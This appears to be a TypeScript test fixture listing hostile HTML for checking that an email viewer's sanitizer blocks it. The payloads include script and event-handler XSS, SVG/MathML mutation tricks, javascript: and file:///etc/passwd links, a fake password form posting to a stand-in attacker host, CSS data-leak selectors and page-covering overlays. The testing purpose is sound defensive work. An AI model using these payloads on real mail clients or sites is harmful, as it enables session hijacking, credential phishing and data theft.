/**
 * Mail that tries everything. Addresses under `/load/` are of images, styles and fonts, which a reader may allow; what asks
 * for one under `/act/` has acted. `own()` is what no mail may bring to run.
 */

const OWN = `document.documentElement.dataset.owned='yes';parent.postMessage({owned:true},'*');top.postMessage({owned:true},'*')`
const own = OWN.replaceAll("'", '&#39;')

export const HOSTILE_SET: Record<string, (evil: string) => string> = {
  'scripts in every known place': (evil) => `
    <script>${OWN}</script><script src="${evil}/act/script.js"></script><script type="module">${OWN}</script>
    <script nonce="">${OWN}</script><script type="speculationrules">{"prefetch":[{"urls":["${evil}/act/speculate"]}]}</script>
    <noscript><script>${OWN}</script></noscript><template><script>${OWN}</script></template>
    <div><template shadowrootmode="open"><script>${OWN}</script><img src=x onerror="${own}"></template></div>
    <img src="x" onerror="${own}"><img src="data:," OnError="${own}"><body onload="${own}" onpageshow="${own}" onresize="${own}">
    <input autofocus onfocus="${own}"><details open ontoggle="${own}"><summary>d</summary></details>
    <video onerror="${own}"><source src="x"></video><audio src="x" onerror="${own}"></audio>
    <marquee onstart="${own}">m</marquee><p style="animation:x 1s" onanimationstart="${own}">a</p><style>@keyframes x{}</style>
    <button popovertarget="pop" onclick="${own}" id="press">press</button><div popover id="pop" onbeforetoggle="${own}">pop</div>
    <p accesskey="j" tabindex="0" onclick="${own}">key</p><isindex action="javascript:${own}" type="image">`,

  'SVG and MathML': (evil) => `
    <svg onload="${own}"><script>${OWN}</script><script href="${evil}/act/svg.js"></script>
      <set attributeName="onmouseover" to="${own}"/><animate onbegin="${own}" attributeName="x" dur="1s"/>
      <a href="javascript:${own}"><text y="20" data-link>svg link</text></a>
      <a><animate attributeName="href" values="javascript:${own}"/><text y="40" data-link>animated</text></a>
      <foreignObject width="100" height="50"><iframe src="${evil}/act/foreign"></iframe><img src="x" onerror="${own}"></foreignObject>
      <use href="${evil}/act/use.svg#x"/><image href="${evil}/load/svg-image.png" onerror="${own}"/>
      <filter id="f"><feImage href="${evil}/load/fe-image.png"/></filter><handler type="text/javascript">${OWN}</handler></svg>
    <img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${OWN}"><script>${OWN}</script><image href="${evil}/act/nested.png"/></svg>`)}">
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${own}&gt;"></table></mtext></math>
    <math href="javascript:${own}"><mi xlink:href="javascript:${own}" data-link>math</mi><maction actiontype="statusline#x" xlink:href="javascript:${own}">m</maction></math>`,

  'links that are none': (evil) => `
    <a data-link href="javascript:${own}">javascript</a> <a data-link href=" java&#9;script&#10;:${own}">spaced</a>
    <a data-link href="&#1;javascript:${own}">control</a> <a data-link href="vbscript:x">vbscript</a>
    <a data-link href="data:text/html,<script>${OWN}</script>">data</a> <a data-link href="data:text/html;base64,PHNjcmlwdD4=" target="_top">data top</a>
    <a data-link href="file:///etc/passwd">file</a> <a data-link href="blob:null/x">blob</a> <a data-link href="view-source:x">source</a>
    <a data-link href="/api/messages" target="_top">ours</a> <a data-link href="?x" target="_parent" download>relative</a>
    <a data-link href="#visible" target="_top">fragment</a>
    <a class="web" href="${evil}/act/link" target="_top" rel="opener" ping="${evil}/act/ping" referrerpolicy="unsafe-url">top</a>
    <a class="web" href="${evil}/act/link" target="_self">self</a> <a class="web" href="${evil}/act/link" target="mail-frame">named</a>
    <map name="m"><area data-area href="javascript:${own}" shape="rect" coords="0,0,9,9"></map><img usemap="#m" width="9" height="9" alt="m" src="data:,">`,

  'frames, forms, base and refresh': (evil) => `
    <base href="${evil}/act/base/" target="_top"><meta http-equiv="refresh" content="0;url=${evil}/act/refresh">
    <meta http-equiv="refresh" content="0;url=javascript:${own}"><meta http-equiv="set-cookie" content="owned=yes">
    <meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><meta name="referrer" content="unsafe-url">
    <iframe src="${evil}/act/frame"></iframe><iframe srcdoc="<script>parent.${own}</script>"></iframe>
    <iframe src="javascript:${own}"></iframe><iframe src="/"></iframe><object data="${evil}/act/object"></object>
    <object type="text/html" data="data:text/html,<script>${OWN}</script>"></object><embed src="${evil}/act/embed">
    <applet code="${evil}/act/applet"></applet><portal src="${evil}/act/portal"></portal><fencedframe src="${evil}/act/fenced"></fencedframe>
    <form action="${evil}/act/form" id="f" target="_top"><input name="password" type="password" autofocus><button id="submit">Sign in</button></form>
    <form action="javascript:${own}"></form><button form="f" formaction="${evil}/act/formaction" formtarget="_top" id="submit2">Go</button>
    <input type="image" form="f" src="${evil}/load/input.png" formaction="${evil}/act/image-submit">
    <img src="relative.png">`,

  'what would be fetched': (evil) => `
    <link rel="stylesheet" href="${evil}/load/link.css"><link rel="prefetch" href="${evil}/act/prefetch"><link rel="preload" as="image" href="${evil}/act/preload">
    <link rel="dns-prefetch" href="${evil}"><link rel="preconnect" href="${evil}"><link rel="modulepreload" href="${evil}/act/module.js">
    <link rel="manifest" href="${evil}/act/manifest"><link rel="icon" href="${evil}/act/icon"><link rel="import" href="${evil}/act/import">
    <link rel="prerender" href="${evil}/act/prerender"><link rel="stylesheet prefetch" href="${evil}/act/both">
    <style>@import "${evil}/load/import.css";@import url(${evil}/load/import-url.css);
      @font-face{font-family:x;src:url(${evil}/load/font.woff2)}p{font-family:x;background:url(${evil}/load/bg.png)}
      .e{background:u\\72l("${evil}/load/escaped.png")}.s{background:image-set("${evil}/load/set.png" 1x)}
      .c{cursor:url(${evil}/load/cursor.png),auto;list-style:url(${evil}/load/list.png);content:url(${evil}/load/content.png)}
      input[value^="a"]{background:url(${evil}/load/leak-a.png)}.m{mask:url(${evil}/load/mask.svg#m);filter:url(${evil}/load/filter.svg#f)}
      @media (prefers-color-scheme:dark){p{background:url(${evil}/load/dark.png)}}</style>
    <img src="${evil}/load/img.png"><img srcset="${evil}/load/srcset.png 1x"><img src="//${new URL(evil).host}/act/schemeless" loading="lazy">
    <picture><source srcset="${evil}/load/source.png" media="(prefers-color-scheme:dark)"><img src="${evil}/load/picture.png"></picture>
    <table background="${evil}/load/table.png"><tr><td class="e">e</td><td class="s">s</td><td class="c">c</td><td class="m">m</td></tr></table>
    <video src="${evil}/act/video.mp4" poster="${evil}/load/poster.png" autoplay></video><audio src="${evil}/act/audio.mp3" autoplay></audio>
    <video autoplay><source src="${evil}/act/source.mp4"><track src="${evil}/act/track.vtt" default></video><input value="abc">
    <div style="background:url('${evil}/load/style.png');behavior:url(${evil}/act/behavior);-moz-binding:url(${evil}/act/binding)">x</div>
    <bgsound src="${evil}/act/bgsound"><body background="${evil}/load/body.png">`,

  'CSS that covers, hides and grows': () => `
    <style>html,body{position:fixed!important;inset:-9999px!important;width:999999px;height:9999999px;z-index:2147483647;background:red}
      *{cursor:none!important;user-select:none}.over{position:fixed;inset:0;z-index:2147483647;background:#f0f;width:9999vw;height:9999vh}
      img{max-width:none!important}script{display:block!important}@page{size:1px}</style>
    <div class="over">covers</div><dialog open style="position:fixed;inset:0;width:100vw;height:100vh">dialog</dialog>
    <img width="100000" height="100000" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" alt="huge">
    <div style="width:1000000px;height:1000000px;transform:scale(1000)">grows</div><p style="font-size:100000px">huge</p>`,
}
